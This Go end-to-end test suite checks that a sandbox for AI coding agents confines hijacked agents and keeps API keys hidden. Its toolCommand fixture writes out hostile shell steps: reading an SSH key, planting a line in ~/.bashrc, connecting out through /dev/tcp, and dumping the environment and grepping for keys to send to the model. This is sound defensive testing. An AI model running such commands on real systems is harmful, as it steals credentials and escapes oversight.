package e2e

import (
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aicage/aicage/e2e/internal/mockmodel"
)

// agent is one agent as the suite drives it.
type agent struct {
	name string // its template and its command
	// setup writes the user's own configuration of the agent into the real
	// home, as a user pointing the agent at a gateway would.
	setup func(t *testing.T, w *agentWorld, mock *mockmodel.Server)
	// env is what the user's shell exports for the agent: a key and, for
	// the agents that read one, the gateway's URL.
	env func(mock *mockmodel.Server) []string
	// direct: the agent's own configuration names the mock's URL, so the
	// cage reaches it directly (the config lists it); otherwise the
	// template's [credentials] endpoint, outside the cage, does.
	direct bool
	// first and resume are the arguments of the two sessions.
	first, resume func(prompt string) []string
	// state is a glob, in the private home, of the agent's own session
	// record after the first session.
	state string
	// control: run the control with ~/.ssh granted as well.
	control bool
	// tls: the mock serves HTTPS (StartTLS).
	tls bool
	// scenario replaces the tool-call scenario.
	scenario func(t *testing.T, w *agentWorld, a agent)
}

// The prompts of the two sessions; the second session's requests must
// carry the first's, read back from the agent's state in the private home.
const (
	firstPrompt  = "FIRST-SESSION-PROMPT: run the test command"
	secondPrompt = "SECOND-SESSION-PROMPT: say that you are done"
)

var agents = []agent{
	{
		name: "claude",
		// The key injected on its way out travels over TLS to the
		// upstream, whose certificate the supervisor checks (SSL_CERT_FILE
		// names the mock's, for aicage outside the cage).
		tls: true,
		env: func(m *mockmodel.Server) []string {
			return []string{"ANTHROPIC_BASE_URL=" + m.URL, "ANTHROPIC_API_KEY=sk-ant-outside-" + mockKey, "SSL_CERT_FILE=" + m.CAFile}
		},
		first:   func(p string) []string { return []string{"-p", p, "--dangerously-skip-permissions"} },
		resume:  func(p string) []string { return []string{"-p", p, "--continue", "--dangerously-skip-permissions"} },
		state:   ".claude/projects/*/*.jsonl",
		control: true,
	},
	{
		name:   "codex",
		setup:  codexSetup,
		env:    func(*mockmodel.Server) []string { return []string{"OPENAI_API_KEY=sk-outside-" + mockKey} },
		direct: true,
		first:  func(p string) []string { return []string{"exec", "--skip-git-repo-check", p} },
		resume: func(p string) []string {
			return []string{"exec", "--skip-git-repo-check", "resume", "--last", p}
		},
		state:   ".codex/sessions/*/*/*/rollout-*.jsonl",
		control: true,
	},
	{
		name: "gemini",
		setup: func(t *testing.T, w *agentWorld, _ *mockmodel.Server) {
			w.write(t, ".gemini/settings.json", `{"security":{"auth":{"selectedType":"gemini-api-key"},"folderTrust":{"enabled":false}}}`+"\n", 0o644)
		},
		env: func(m *mockmodel.Server) []string {
			return []string{"GOOGLE_GEMINI_BASE_URL=" + m.URL, "GEMINI_API_KEY=gm-outside-" + mockKey}
		},
		first:  func(p string) []string { return []string{"--yolo", "-p", p} },
		resume: func(p string) []string { return []string{"--yolo", "--resume", "latest", "-p", p} },
		state:  ".gemini/tmp/*/chats/session-*.jsonl",
	},
	{
		name:   "opencode",
		setup:  opencodeSetup,
		env:    func(*mockmodel.Server) []string { return []string{"OPENAI_API_KEY=sk-outside-" + mockKey} },
		direct: true,
		first:  func(p string) []string { return []string{"run", p} },
		resume: func(p string) []string { return []string{"run", "--continue", p} },
		state:  ".local/share/opencode/opencode.db",
	},
	{
		// Copilot with its own provider (BYOK): no GitHub login needed
		name: "copilot",
		env: func(m *mockmodel.Server) []string {
			return []string{"COPILOT_PROVIDER_BASE_URL=" + m.URL + "/v1", "COPILOT_PROVIDER_TYPE=openai",
				"COPILOT_PROVIDER_API_KEY=sk-outside-" + mockKey, "COPILOT_PROVIDER_MODEL_ID=mock-model",
				"COPILOT_MODEL=mock-model", "COPILOT_OFFLINE=true"}
		},
		direct: true,
		first:  func(p string) []string { return []string{"-p", p, "--allow-all-tools", "--allow-all-paths"} },
		resume: func(p string) []string {
			return []string{"-p", p, "--allow-all-tools", "--allow-all-paths", "--continue"}
		},
		state: ".copilot/session-state/*/workspace.yaml",
	},
	{name: "copilot-nologin", scenario: copilotScenario},
}

// mockKey ends every key the user's shell holds in these tests: the cage
// must never see it where a [credentials] table injects it.
const mockKey = "KEY-7d1e0c"

func codexSetup(t *testing.T, w *agentWorld, m *mockmodel.Server) {
	codexConfig(t, w, m, "")
}

// codexConfig writes ~/.codex/config.toml with a custom provider for the
// mock; top holds more top-level keys.
func codexConfig(t *testing.T, w *agentWorld, m *mockmodel.Server, top string) {
	w.write(t, ".codex/config.toml", fmt.Sprintf(`model = "mock-model"
model_provider = "mock"
%s
[model_providers.mock]
name = "mock"
base_url = "%s/v1"
env_key = "OPENAI_API_KEY"
wire_api = "responses"
`, top, m.URL), 0o644)
}

func opencodeSetup(t *testing.T, w *agentWorld, m *mockmodel.Server) {
	w.write(t, ".config/opencode/opencode.json", fmt.Sprintf(`{
  "$schema": "https://opencode.ai/config.json",
  "model": "mock/mock-model",
  "autoupdate": false,
  "permission": {"bash": "allow", "external_directory": "allow"},
  "provider": {
    "mock": {
      "npm": "@ai-sdk/openai-compatible",
      "name": "Mock",
      "options": {"baseURL": "%s/v1", "apiKey": "{env:OPENAI_API_KEY}"},
      "models": {"mock-model": {"name": "Mock model", "tool_call": true}}
    }
  }
}
`, m.URL), 0o644)
}

// toolCommand is what the model asks the shell tool to run: leave a proof
// in the project, then what a hijacked agent tries. The markers it
// prints are quoted in the command, so that the request carrying the
// command back (the conversation's history) does not hold them already.
func (w *agentWorld) toolCommand(proj, proof string) string {
	_, port, _ := strings.Cut(w.forbidden.Addr().String(), ":")
	return strings.Join([]string{
		"echo " + proof + " > " + proj + "/proof.txt",
		"cat " + w.home + "/.ssh/id_canary || echo SSH-'UNREADABLE'",
		"echo PLANTED >> " + w.home + "/.bashrc || echo BASHRC-'UNWRITABLE'",
		"(echo x > /dev/tcp/127.0.0.1/" + port + ") && echo PORT-'CONNECTED' || echo PORT-'REFUSED'",
		// what a hijacked agent does with its key: dump its environment
		// and grep its home and the project; all of it goes to the model
		"env",
		"tr '\\0' '\\n' < /proc/self/environ",
		"grep -rl outside- \"$HOME\" \"$AICAGE_ROOT\" 2>/dev/null | head -5",
		"echo TOOL-'RAN'",
	}, "; ")
}

func mockPort(m *mockmodel.Server) int {
	u, _ := url.Parse(m.URL)
	var p int
	fmt.Sscan(u.Port(), &p)
	return p
}

// session runs one 'aicage run NAME ARGS…' without a terminal.
func (w *agentWorld) session(t *testing.T, a agent, proj string, m *mockmodel.Server, args []string) string {
	t.Helper()
	start := time.Now()
	out, err := w.runErr(proj, w.env(a.env(m)...), filepath.Join(binDir, "aicage"), append([]string{"run", a.name}, args...)...)
	t.Logf("aicage run %s %s: %v", a.name, strings.Join(args, " "), time.Since(start).Round(time.Millisecond))
	if err != nil {
		t.Fatalf("aicage run %s: %v\n%s", a.name, err, out)
	}
	return out
}

func (w *agentWorld) toolCallScenario(t *testing.T, a agent) {
	mock := mockmodel.Start("")
	if a.tls {
		mock.Close()
		mock = mockmodel.StartTLS("")
		if !strings.HasPrefix(mock.URL, "https://") || mock.CAFile == "" {
			t.Fatalf("the mock does not serve TLS: %s", mock.URL)
		}
	}
	defer mock.Close()
	if a.setup != nil {
		a.setup(t, w, mock)
	}
	port := 0
	if a.direct {
		port = mockPort(mock)
	}
	proj := w.newProject(t, a.name, a.name, agentConfig(a.name, port, false))
	proof := "PROOF-" + a.name + "-" + mockKey
	mock.SetCommand(w.toolCommand(proj, proof))
	// status names every variable of the user's that the template lets
	// through (or injects), never a value
	st := w.run(t, proj, w.env(a.env(mock)...), filepath.Join(binDir, "aicage"), "status")
	for _, kv := range a.env(mock) {
		name, value, _ := strings.Cut(kv, "=")
		if name == "SSL_CERT_FILE" {
			continue // for aicage's endpoint outside the cage, not the agent's
		}
		if !strings.Contains(st, name) {
			t.Errorf("aicage status does not show %s as passed or injected:\n%s", name, st)
		}
		if strings.Contains(value, mockKey) && strings.Contains(st, value) {
			t.Errorf("aicage status shows the value of %s", name)
		}
	}
	hits := w.forbiddenHits.Load()

	out := w.session(t, a, proj, mock, a.first(firstPrompt))
	if mock.ToolCalls() == 0 {
		t.Fatalf("the mock never answered with a tool call; output:\n%s", out)
	}
	if b, err := os.ReadFile(filepath.Join(proj, "proof.txt")); err != nil || strings.TrimSpace(string(b)) != proof {
		t.Fatalf("no proof of the tool call in the project (%v, %q); output:\n%s", err, b, out)
	}
	if !mockSaw(mock, "TOOL-RAN") {
		t.Fatalf("the tool's output never reached the mock; output:\n%s", out)
	}
	for _, m := range []string{"SSH-UNREADABLE", "BASHRC-UNWRITABLE"} {
		if !mockSaw(mock, m) {
			t.Errorf("the tool's output to the mock lacks %s", m)
		}
	}
	if mockSaw(mock, "PORT-CONNECTED") || !mockSaw(mock, "PORT-REFUSED") {
		t.Errorf("the forbidden loopback port was reached from the cage")
	}
	w.checkContained(t, proj, mock, hits)
	if a.env != nil && len(a.env(mock)) > 0 && !a.direct {
		// the key reached the mock from the endpoint, in a header, and
		// never from the cage: the tool call's env, /proc/self/environ and
		// grep of the home and the project, sent to the model, hold none
		if !mockHeaderHas(mock, "outside-"+mockKey) {
			t.Errorf("no request to the mock carried the user's key in a header: the endpoint did not inject it")
		}
		if !mockSaw(mock, "aicage-injected-") {
			t.Errorf("the tool call's environment, sent to the mock, shows no placeholder key")
		}
		if mockSaw(mock, "outside-"+mockKey) {
			t.Errorf("the key from the user's shell is in a request body")
		}
		if f := grepTree(proj, "outside-"+mockKey); f != "" {
			t.Errorf("the key from the user's shell is in %s, inside the cage's reach", f)
		}
	}
	matches, _ := filepath.Glob(filepath.Join(proj, ".aicage/state/home", a.state))
	if len(matches) == 0 {
		t.Errorf("no %s in the private home after the first session:\n%s", a.state, listTree(filepath.Join(proj, ".aicage/state/home")))
	}

	before := len(mock.Requests())
	out = w.session(t, a, proj, mock, a.resume(secondPrompt))
	resumed := false
	for _, r := range mock.Requests()[before:] {
		if strings.Contains(r.Body, secondPrompt) && strings.Contains(r.Body, "FIRST-SESSION-PROMPT") {
			resumed = true
		}
	}
	if !resumed {
		t.Errorf("the second session did not carry the first one's conversation (state lost?); output:\n%s", out)
	}
	w.checkContained(t, proj, mock, hits)

	if a.control {
		w.controlScenario(t, a)
	}
}

// checkContained judges the escapes outside: the canary in no project file
// and no request, ~/.bashrc unchanged, no connection on the forbidden port.
func (w *agentWorld) checkContained(t *testing.T, proj string, mock *mockmodel.Server, hits int32) {
	t.Helper()
	if mockSaw(mock, w.canary) {
		t.Errorf("the canary from ~/.ssh reached the model")
	}
	if f := grepTree(proj, w.canary); f != "" {
		t.Errorf("the canary from ~/.ssh is in %s", f)
	}
	if b, _ := os.ReadFile(filepath.Join(w.home, ".bashrc")); string(b) != w.bashrc {
		t.Errorf("~/.bashrc changed: %q", b)
	}
	if n := w.forbiddenHits.Load(); n != hits {
		t.Errorf("the forbidden loopback port got %d connections", n-hits)
	}
}

// controlScenario grants ~/.ssh and shows the same tool call's output, with
// the canary, does reach the mock: the containment checks can fail.
func (w *agentWorld) controlScenario(t *testing.T, a agent) {
	mock := mockmodel.Start("")
	defer mock.Close()
	if a.setup != nil {
		a.setup(t, w, mock)
	}
	port := 0
	if a.direct {
		port = mockPort(mock)
	}
	proj := w.newProject(t, a.name+"-control", a.name, agentConfig(a.name, port, true))
	mock.SetCommand(w.toolCommand(proj, "PROOF-control"))
	w.session(t, a, proj, mock, a.first(firstPrompt))
	if !mockSaw(mock, w.canary) {
		t.Errorf("control: with ~/.ssh granted the canary should reach the mock, and did not")
	}
}

// mockHeaderHas tells whether some request's headers held s.
func mockHeaderHas(m *mockmodel.Server, s string) bool {
	for _, r := range m.Requests() {
		for _, vs := range r.Header {
			for _, v := range vs {
				if strings.Contains(v, s) {
					return true
				}
			}
		}
	}
	return false
}

// proxyScenario: claude from its template (egress = "proxy") reaches its
// model under a host name, through the supervisor's proxy: the mock is
// listed in [network] domains as model.test, which the proxy resolves to
// the mock (AICAGE_TESTONLY_HOSTS, with 127.0.0.1 taken for public); a
// direct connect to the mock's loopback address would be refused by the
// broker, since no [network] hosts entry lists it. The tool call runs in
// the cage as in the other scenarios.
func (w *agentWorld) proxyScenario(t *testing.T) {
	mock := mockmodel.Start("")
	defer mock.Close()
	port := mockPort(mock)
	hosts := filepath.Join(w.base, "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 model.test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	proj := w.newProject(t, "claude-proxy", "claude", fmt.Sprintf(
		"\n# the mock model under a name, through the egress proxy (added by the test)\n[commands.claude.network]\ndomains = [\"model.test:%d\"]\n", port))
	proof := "PROOF-claude-proxy-" + mockKey
	mock.SetCommand(w.toolCommand(proj, proof))
	hits := w.forbiddenHits.Load()
	env := w.env(fmt.Sprintf("ANTHROPIC_BASE_URL=http://model.test:%d", port), "ANTHROPIC_AUTH_TOKEN=tok-outside-"+mockKey,
		"AICAGE_TESTONLY_HOSTS="+hosts, "AICAGE_TESTONLY_PUBLIC=127.0.0.1")
	out, err := w.runErr(proj, env, filepath.Join(binDir, "aicage"), "run", "claude", "-p", firstPrompt, "--dangerously-skip-permissions")
	if err != nil {
		t.Fatalf("aicage run claude: %v\n%s", err, out)
	}
	if mock.ToolCalls() == 0 {
		t.Fatalf("the mock never answered with a tool call through the proxy; output:\n%s", out)
	}
	if b, err := os.ReadFile(filepath.Join(proj, "proof.txt")); err != nil || strings.TrimSpace(string(b)) != proof {
		t.Fatalf("no proof of the tool call in the project (%v, %q); output:\n%s", err, b, out)
	}
	if !mockSaw(mock, "TOOL-RAN") || !mockSaw(mock, "HTTPS_PROXY=http://aicage:") {
		t.Errorf("the tool's output, with the cage's proxy variables, never reached the mock; output:\n%s", out)
	}
	w.checkContained(t, proj, mock, hits)
}

func mockSaw(m *mockmodel.Server, s string) bool {
	for _, r := range m.Requests() {
		if strings.Contains(r.Body, s) {
			return true
		}
	}
	return false
}

// grepTree names a regular file under root that contains s, or "".
func grepTree(root, s string) string {
	found := ""
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || found != "" || !d.Type().IsRegular() {
			return nil
		}
		if b, err := os.ReadFile(p); err == nil && strings.Contains(string(b), s) {
			found = p
		}
		return nil
	})
	return found
}

func listTree(root string) string {
	var b strings.Builder
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil {
			rel, _ := filepath.Rel(root, p)
			if strings.Count(rel, "/") < 4 {
				fmt.Fprintln(&b, rel)
			}
		}
		return nil
	})
	return b.String()
}

// copilotScenario: without its own provider, Copilot CLI needs a GitHub
// login for any model call; without one it goes as far as starting in the
// cage and asking for one.
func copilotScenario(t *testing.T, w *agentWorld, a agent) {
	proj := w.newProject(t, a.name, "copilot", agentConfig("copilot", 0, false))
	aicage := filepath.Join(binDir, "aicage")
	out := w.run(t, proj, w.env(), aicage, "run", "copilot", "--version")
	if !strings.Contains(out, agentVersions["@github/copilot"]) {
		t.Fatalf("copilot --version in the cage: %s", out)
	}
	out, err := w.runErr(proj, w.env(), aicage, "run", "copilot", "-p", firstPrompt, "--allow-all-tools")
	if err == nil || !strings.Contains(out, "No authentication information found") {
		t.Fatalf("copilot without a login: want its login error, got %v:\n%s", err, out)
	}
	t.Logf("copilot %s runs in the cage and stops at its GitHub login check (no login here)", agentVersions["@github/copilot"])
}
